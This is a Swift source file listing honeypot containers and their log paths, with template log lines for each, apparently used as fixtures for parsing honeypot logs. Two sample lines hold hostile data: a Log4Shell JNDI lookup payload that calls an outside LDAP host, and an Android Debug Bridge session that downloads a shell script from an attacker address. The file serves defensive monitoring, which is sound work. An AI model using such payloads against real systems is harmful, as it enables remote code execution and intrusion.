extension Honeypot {
  /// Web applications.
  static let web = [
    Honeypot(
      "ciscoasa",
      image: "dtagdevsec/ciscoasa",
      writes: "/var/log/ciscoasa/ciscoasa.log",
      visit:
        #"{'timestamp': '<date>T<time>.<micros>', 'src_ip': '<attacker>', 'payload_printable': '"GET <path>?q=<!1> HTTP/1.1" 200 -'}"#
    ),
    Honeypot(
      "citrixhoneypot",
      image: "dtagdevsec/citrixhoneypot",
      writes: "/opt/citrixhoneypot/logs/server.log",
      visit:
        #"{"asctime":"<date> <time>,<millis>","levelname":"INFO","message":"(<attacker>:<port>): GET Header: <path>?q=<!1>"}"#,
      #"{"asctime":"<date> <time>,<millis>","levelname":"INFO","message":"(<attacker>:<port>): POST body: user=<user>&passwd=<!password>"}"#
    ),
    Honeypot(
      "elasticpot",
      image: "dtagdevsec/elasticpot",
      writes: "/opt/elasticpot/log/elasticpot.json",
      visit:
        #"{"eventid":"elasticpot.recon","message":"Scan","url":"<path>","timestamp":"<date>T<time>.<micros>Z","src_ip":"<attacker>","src_port":<port>,"dst_port":9200,"sensor":"demo","request":"GET","user_agent":"<!agent>","dst_ip":"192.0.2.9"}"#,
      #"{"eventid":"elasticpot.attack","message":"Exploit","url":"/_search?source","payload":"{}","timestamp":"<date>T<time>.<micros>Z","src_ip":"<attacker>","src_port":<port>,"dst_port":9200,"sensor":"demo","request":"POST","user_agent":"<!agent>","dst_ip":"192.0.2.9"}"#
    ),
    Honeypot(
      "ipphoney",
      image: "dtagdevsec/ipphoney",
      writes: "/opt/ipphoney/log/ipphoney.json",
      visit:
        #"{"eventid":"ipphoney.connect","message":"Connection","timestamp":"<date>T<time>.<micros>+00:00Z","src_ip":"<attacker>","src_port":<port>,"dst_ip":"192.0.2.9","dst_port":631,"sensor":"demo","request":"GET","url":"<path>","user_agent":"<!agent>"}"#
    ),
    Honeypot(
      "galah",
      image: "dtagdevsec/galah",
      writes: "/opt/galah/log/galah.json",
      visit:
        #"{"eventTime":"<date>T<time>.<micros>+00:00","httpRequest":{"body":"","bodySha256":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855","method":"GET","protocolVersion":"HTTP/1.1","request":"<path>","sessionID":"<!session>","userAgent":"<agent>"},"msg":"successfulResponse","port":"8080","sensorName":"demo","srcIP":"<attacker>","srcPort":"<port>"}"#
    ),
    Honeypot(
      "go-pot",
      image: "demo/go-pot",
      writes: "stdout",
      visit:
        #"{"level":"info","timestamp":"<date>T<time>Z","type":"http","id":"<!session>","phase":"start","src_ip":"<attacker>","dest_port":"80","method":"GET","path":"<path>","user_agent":"<agent>"}"#,
      #"{"level":"info","timestamp":"<date>T<time>Z","type":"ftp","id":"<!session>","phase":"start","src_ip":"<attacker>","dest_port":"21","user":"<user>","pass":"<password>"}"#
    ),
    Honeypot(
      "h0neytr4p",
      image: "dtagdevsec/h0neytr4p",
      writes: "/opt/h0neytr4p/log/log.json",
      visit:
        #"{"dest_port":"443","header_x-forwarded-for":"<attacker>","hostname":"192.0.2.9","protocol":"https","request_method":"GET","request_uri":"<path>","src_ip":"<attacker>","timestamp":"<date>T<time>Z","trapped":"true","trapped_for":"env","user-agent":"<!agent>"}"#
    ),
    Honeypot(
      "hellpot",
      image: "demo/hellpot",
      writes: "stdout",
      visit:
        #"{"level":"info","USERAGENT":"<!agent>","REMOTE_ADDR":"<attacker>","URL":"<path>","time":"<date>T<time>Z","message":"NEW"}"#,
      #"{"level":"info","USERAGENT":"<!agent>","REMOTE_ADDR":"<attacker>","URL":"<path>","BYTES":65536,"DURATION":20000,"time":"<date>T<time>Z","message":"FINISH"}"#
    ),
    Honeypot(
      "honeyaml",
      image: "dtagdevsec/honeyaml",
      writes: "/opt/honeyaml/log/honeyaml.log",
      visit:
        #"{"timestamp":"<date>T<time>.<micros>Z","level":"WARN","src_ip":"<attacker>","path":"<path>","method":"POST","status_code":401,"user_agent":"<!agent>","dest_port":"8080","target":"honeyaml::access-log"}"#
    ),
    Honeypot(
      "log4pot",
      image: "dtagdevsec/log4pot",
      writes: "/var/log/log4pot/log/log4pot.log",
      visit:
        #"{"reason":"request","timestamp":"<date>T<time>.<micros>","correlation_id":"<!session>","server_port":8080,"client":"<attacker>","port":<port>,"request":"<path>"}"#,
      #"{"reason":"exploit","timestamp":"<date>T<time>.<micros>","correlation_id":"<!session>","location":"header-X","payload":"${jndi:ldap://198.51.100.66/a}"}"#
    ),
    Honeypot(
      "tanner",
      image: "dtagdevsec/tanner",
      writes: "/var/log/tanner/tanner_report.json",
      visit:
        #"{"method":"GET","path":"<path>","headers":{"user-agent":"<agent>","src_ip":"198.51.100.66"},"uuid":"demo","peer":{"ip":"<attacker>","port":<port>},"status":200,"cookies":{"sess_uuid":null},"response_msg":{"response":{"message":{"sess_uuid":"<!session>"}}},"timestamp":"<date>T<time>.<micros>"}"#
    ),
    Honeypot(
      "wordpot",
      image: "dtagdevsec/wordpot",
      writes: "/opt/wordpot/logs/wordpot.log",
      visit:
        #"{"timestamp":"<date>T<time>.<micros>","src_ip":"<attacker>","src_port":<port>,"dest_port":80,"plugin":"badlogin","username":"<user>","password":"<password>","url":"http://192.0.2.9/wp-login.php","user_agent":"<!agent>"}"#
    ),
  ]

  /// Industrial and other devices.
  static let devices = [
    Honeypot(
      "conpot",
      image: "dtagdevsec/conpot",
      writes: "/var/log/conpot/conpot.json",
      named: "CONPOT_JSON_LOG",
      visit:
        #"{"timestamp":"<date>T<time>.<micros>","sensorid":"demo","id":"<!session>","src_ip":"<attacker>","src_port":<port>,"dst_ip":"192.0.2.9","dst_port":502,"public_ip":null,"data_type":"modbus","request":null,"response":null,"event_type":"NEW_CONNECTION"}"#,
      #"{"timestamp":"<date>T<time>.<micros>","sensorid":"demo","id":"<!session>","src_ip":"<attacker>","src_port":<port>,"dst_ip":"192.0.2.9","dst_port":502,"public_ip":null,"data_type":"modbus","request":"b'\\x00\\x00\\x00\\x00\\x00\\x05\\x00\\x2b\\x0e\\x01\\x00'","response":null,"event_type":null}"#
    ),
    Honeypot(
      "conpot-text",
      image: "honeynet/conpot",
      writes: "stderr",
      visit: "<date> <time>,<millis> New modbus connection from <attacker>:<port>. (<!session>)",
      "<date> <time>,<millis> New snmp session from <attacker> (<!session>)"
    ),
    Honeypot(
      "adbhoney",
      image: "dtagdevsec/adbhoney",
      writes: "/opt/adbhoney/log/adbhoney.json",
      visit:
        #"{"eventid":"adbhoney.session.connect","session":"<!session>","src_ip":"<attacker>","src_port":<port>,"dst_ip":"192.0.2.9","dst_port":"5555","timestamp":"<date>T<time>.<micros>Z","sensor":"demo"}"#,
      #"{"eventid":"adbhoney.command.input","session":"<!session>","src_ip":"<attacker>","input":"<command>","timestamp":"<date>T<time>.<micros>Z","sensor":"demo"}"#,
      #"{"eventid":"adbhoney.session.file_download","session":"<!session>","src_url":"http://198.51.100.66/x.sh","shasum":"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855","timestamp":"<date>T<time>.<micros>Z","sensor":"demo"}"#
    ),
    Honeypot(
      "medpot",
      image: "dtagdevsec/medpot",
      writes: "/var/log/medpot/medpot.log",
      visit:
        #"{"level":"info","message":"Connection found","timestamp":"<rfc822>","src_port":"<port>","src_ip":"<attacker>","data":"<!TVNI>"}"#
    ),
    Honeypot(
      "miniprint",
      image: "demo/miniprint",
      writes: "stderr",
      visit:
        #"{"timestamp":"<date>T<time>.<micros>Z","info":"Connection from <attacker>","src_ip":"<attacker>","dest_port":9100,"action":"open","event":"connection","item":"<!>"}"#,
      #"{"timestamp":"<date>T<time>.<micros>Z","info":"Requested item","src_ip":"<attacker>","dest_port":9100,"action":"request","event":"fsquery","item":"0:<!path>"}"#
    ),
  ]
}
